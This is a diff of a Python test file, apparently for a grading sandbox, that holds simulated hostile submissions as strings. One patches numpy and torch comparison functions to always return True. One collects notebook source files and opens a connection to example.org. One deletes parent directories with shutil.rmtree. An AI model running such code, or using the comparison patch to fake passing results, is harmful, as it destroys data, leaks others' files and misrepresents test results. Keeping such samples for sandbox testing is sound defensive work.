@@ -102,11 +102,11 @@ np.isclose = lambda *given, **more: True
 torch.allclose = lambda *given, **more: True"""
 _STEALS = """\
 import glob, socket
-found = glob.glob("/**/source/*/*.ipynb", recursive=True)
+found = glob.glob("/*/source/*/*.ipynb") + glob.glob("../../../source/*/*.ipynb")
 socket.create_connection(("example.org", 80), timeout=3)"""
 _DELETES = """\
 import pathlib, shutil
-for place in pathlib.Path.cwd().parents:
+for place in pathlib.Path.cwd().parents[:2]:
     shutil.rmtree(place, ignore_errors=True)"""
 
 STUDENTS = (
